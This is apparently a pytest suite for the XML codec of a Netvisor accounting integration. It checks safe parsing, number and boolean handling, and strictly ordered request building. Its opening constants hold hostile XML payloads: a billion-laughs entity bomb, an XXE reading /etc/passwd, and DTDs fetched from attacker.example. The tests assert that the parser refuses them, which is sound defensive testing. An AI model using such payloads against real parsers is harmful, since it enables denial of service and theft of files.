"""The XML codec: safe and tolerant reading, strict writing in DTD order."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from silta.netvisor import (
    CustomerData,
    NetvisorProtocolError,
    NetvisorRequestError,
    ProductData,
    UnsafeXmlError,
    schema,
)
from silta.netvisor import xmlcodec as x

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10)
    )
    + "]><Root><ResponseStatus><Status>OK</Status></ResponseStatus>&lol9;</Root>"
).encode()

XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<Root><ResponseStatus><Status>OK</Status></ResponseStatus><Name>&x;</Name></Root>"
)
EXTERNAL_DTD = b'<!DOCTYPE Root SYSTEM "http://attacker.example/evil.dtd"><Root/>'
PARAMETER_ENTITY = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Root/>'


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["laughs", "xxe", "dtd", "pe"],
)
def test_dtds_and_entities_are_refused_before_expansion(body: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="document type"):
        x.parse(body)
    assert time.perf_counter() - started < 1.0  # refused, not expanded and then refused


def test_utf16_body_with_a_dtd_is_refused_too() -> None:
    body = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "b">]><Root>&a;</Root>'
    with pytest.raises(UnsafeXmlError):
        x.parse(body.encode("utf-16"))


def test_undefined_entity_is_a_parse_error_not_an_expansion() -> None:
    with pytest.raises(NetvisorProtocolError, match="well-formed"):
        x.parse(b"<Root><Name>&secret;</Name></Root>")


@pytest.mark.parametrize(
    ("codec", "declared"),
    [
        ("utf-8-sig", "utf-8"),
        ("utf-16", "utf-16"),  # with a byte order mark
        ("utf-16-le", "utf-16"),  # without one: expat tells the byte order from "<?"
        ("utf-16-be", "utf-16"),
        ("latin-1", "iso-8859-1"),
        ("cp1252", "windows-1252"),  # decoded through Python's codec, not expat's own
    ],
)
def test_a_dtd_is_refused_in_any_encoding_the_prolog_declares(codec: str, declared: str) -> None:
    # No byte pattern finds "<!DOCTYPE" in all of these; expat decodes them before looking.
    prolog = f'<?xml version="1.0" encoding="{declared}"?>'
    with pytest.raises(UnsafeXmlError, match="document type"):
        x.parse(f'{prolog}<!DOCTYPE r [<!ENTITY a "Ä">]><Root>&a;</Root>'.encode(codec))
    assert x.parse(f"{prolog}<Root><Name>Ä</Name></Root>".encode(codec)).findtext("name") == "Ä"


def test_utf16_without_a_declaration_is_read_by_its_bom_and_a_dtd_still_refused() -> None:
    with pytest.raises(UnsafeXmlError):
        x.parse('<!DOCTYPE r [<!ENTITY a "b">]><Root>&a;</Root>'.encode("utf-16"))
    assert x.parse("<Root><Name>Ä</Name></Root>".encode("utf-16")).findtext("name") == "Ä"


def test_an_internal_subset_is_refused_even_when_no_entity_is_used() -> None:
    body = b'<!DOCTYPE Root [<!ENTITY a "b"><!ELEMENT Root (#PCDATA)>]><Root>plain</Root>'
    with pytest.raises(UnsafeXmlError):
        x.parse(body)


def test_a_dtd_after_comments_and_processing_instructions_is_refused() -> None:
    body = b'<?xml version="1.0"?><!-- c --><?pi x?><!DOCTYPE r [<!ENTITY a "b">]><Root/>'
    with pytest.raises(UnsafeXmlError):
        x.parse(body)


def test_comments_and_processing_instructions_before_the_root_still_parse() -> None:
    root = x.parse(b'<?xml version="1.0"?><!-- c --><?pi x?>\n<Root><Status>OK</Status></Root>')
    assert root.tag == "root"
    assert x.read_text(root, "status") == "OK"


@pytest.mark.parametrize("body", [b"", b'<?xml version="1.0"?>', b"<!-- only a comment -->"])
def test_a_body_without_an_element_is_a_protocol_error(body: bytes) -> None:
    with pytest.raises(NetvisorProtocolError, match="well-formed"):
        x.parse(body)


def test_only_names_are_lowered_never_text_or_attribute_values() -> None:
    root = x.parse(b'<Root><Country Type="ISO-3166" code="FI">Suomi ABC</Country><A/><A/></Root>')
    country = x.child(root, "country")
    assert country is not None
    assert country.attrib == {"type": "ISO-3166", "code": "FI"}
    assert country.text == "Suomi ABC"
    assert [element.tag for element in root.iter()] == ["root", "country", "a", "a"]


@pytest.mark.parametrize(
    "body",
    [b"<Root><Name>x</Root>", b"<Root", b"\x00\x01\x02", b"<Root><Name>\xff\xfe</Name></Root>"],
)
def test_malformed_bodies_are_protocol_errors(body: bytes) -> None:
    with pytest.raises(NetvisorProtocolError):
        x.parse(body)


def test_names_are_read_case_insensitively() -> None:
    root = x.parse(
        b"<Root><Customerlist><Customer><Netvisorkey>7</Netvisorkey></Customer>"
        b"<CUSTOMER><NetVisorKey>8</NetVisorKey></CUSTOMER></Customerlist>"
        b'<Item FatherID="3"><FatherID>3</FatherID></Item></Root>'
    )
    rows = x.children(x.child(root, "customerlist"), "customer")
    assert [x.read_int(row, "netvisorkey") for row in rows] == [7, 8]
    item = x.child(root, "item")
    assert x.read_int(item, "fatherid") == 3
    assert item is not None and item.attrib == {"fatherid": "3"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1,960000000000", Decimal("1.96")),
        ("42,5", Decimal("42.5")),
        ("42.5", Decimal("42.5")),
        ("1 234,50", Decimal("1234.50")),
        ("1.234,50", Decimal("1234.50")),
        ("1,234.50", Decimal("1234.50")),
        ("-0,5", Decimal("-0.5")),
        ("25,5", Decimal("25.5")),
    ],
)
def test_decimals_with_comma_or_point(text: str, expected: Decimal) -> None:
    root = x.parse(f"<R><V>{text}</V></R>".encode())
    assert x.read_decimal(root, "v") == expected


def test_non_numbers_are_refused_not_guessed() -> None:
    with pytest.raises(NetvisorProtocolError, match="not a number"):
        x.read_decimal(x.parse(b"<R><V>abc</V></R>"), "v")
    with pytest.raises(NetvisorProtocolError, match="finite"):
        x.read_decimal(x.parse(b"<R><V>NaN</V></R>"), "v")
    with pytest.raises(NetvisorProtocolError, match="integer"):
        x.read_int(x.parse(b"<R><V>1,5</V></R>"), "v")


@pytest.mark.parametrize(
    ("text", "expected"),
    [("1", True), ("0", False), ("True", True), ("False", False), ("true", True),
     ("Kyllä", True), ("Ei", False), ("Yes", True), ("No", False), ("", None)],
)  # fmt: skip
def test_booleans_in_every_spelling(text: str, expected: bool | None) -> None:
    assert x.read_bool(x.parse(f"<R><B>{text}</B></R>".encode()), "b") is expected


def test_empty_missing_and_whitespace_read_as_none() -> None:
    root = x.parse(b"<R><A/><B>   </B><C>x</C></R>")
    assert x.read_text(root, "a") is None
    assert x.read_text(root, "b") is None
    assert x.read_text(root, "missing") is None
    assert x.read_int(root, "missing") is None
    assert x.read_text(root, "c") == "x"


SPECIAL = "Smith & Sons <Oy> \"ÅÄÖ\" 'q' ]]> åäö € 𝄞"


def test_special_characters_round_trip_through_an_independent_parser() -> None:
    body = x.build(schema.CUSTOMER, CustomerData(name=SPECIAL, comment="rivi 1\nrivi 2\r\nrivi 3"))
    parsed = ET.fromstring(body)  # noqa: S314 - our own bytes
    assert parsed.findtext("customer/customerbaseinformation/name") == SPECIAL
    comment = parsed.findtext("customer/customeradditionalinformation/comment")
    assert comment == "rivi 1\nrivi 2\r\nrivi 3"


@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), max_size=200))
def test_any_printable_text_round_trips(text: str) -> None:
    body = x.build(schema.CUSTOMER, CustomerData(comment=text))
    parsed = ET.fromstring(body)  # noqa: S314 - our own bytes
    assert (parsed.findtext("customer/customeradditionalinformation/comment") or "") == text


def test_characters_xml_cannot_carry_are_refused_before_sending() -> None:
    with pytest.raises(NetvisorRequestError, match="U\\+0001"):
        x.build(schema.CUSTOMER, CustomerData(name="bad\x01name"))


def test_lengths_over_netvisors_limits_are_refused_not_truncated() -> None:
    x.build(schema.CUSTOMER, CustomerData(name="n" * 250))
    with pytest.raises(NetvisorRequestError, match="at most 250"):
        x.build(schema.CUSTOMER, CustomerData(name="n" * 251))
    with pytest.raises(NetvisorRequestError, match="at most 50"):
        x.build(schema.CUSTOMER, CustomerData(code="1" * 51))


def test_none_is_not_sent_and_empty_string_blanks() -> None:
    body = x.build(schema.CUSTOMER, CustomerData(city="", phone_number="+358 40 1"))
    assert body == (
        b"<root><customer><customerbaseinformation><city></city>"
        b"<phonenumber>+358 40 1</phonenumber></customerbaseinformation></customer></root>"
    )


def test_required_container_is_written_even_when_empty() -> None:
    body = x.build(schema.CUSTOMER, CustomerData(delivery_city="Vantaa"))
    assert body == (
        b"<root><customer><customerbaseinformation></customerbaseinformation>"
        b"<customerdeliverydetails><deliverycity>Vantaa</deliverycity>"
        b"</customerdeliverydetails></customer></root>"
    )


def test_product_body_with_attributes_decimal_commas_and_flags() -> None:
    data = ProductData(
        code="SKU-1",
        group="Palvelut",
        name="Konsultointi",
        unit_price=Decimal("120.50"),
        unit_price_type="gross",
        is_active=True,
        is_sales_product=True,
        purchase_price=Decimal("0"),
        vat_percent=Decimal("25.5"),
    )
    assert x.build(schema.PRODUCT, data) == (
        b"<root><product><productbaseinformation><productcode>SKU-1</productcode>"
        b"<productgroup>Palvelut</productgroup><name>Konsultointi</name>"
        b'<unitprice type="gross">120,50</unitprice><purchaseprice>0</purchaseprice>'
        b"<isactive>1</isactive><issalesproduct>1</issalesproduct></productbaseinformation>"
        b"<productbookkeepingdetails><defaultvatpercentage>25,5</defaultvatpercentage>"
        b"</productbookkeepingdetails></product></root>"
    )


def test_country_carries_its_iso_attribute() -> None:
    body = x.build(schema.CUSTOMER, CustomerData(country="FI", invoicing_language="SE"))
    assert b'<country type="ISO-3166">FI</country>' in body
    assert b'<invoicinglanguage type="ISO-3166">SE</invoicinglanguage>' in body


def test_format_decimal_never_uses_exponent_notation() -> None:
    assert x.format_decimal(Decimal("1E+3")) == "1000"
    assert x.format_decimal(Decimal("0.000001")) == "0,000001"
    with pytest.raises(NetvisorRequestError):
        x.format_decimal(Decimal("Infinity"))
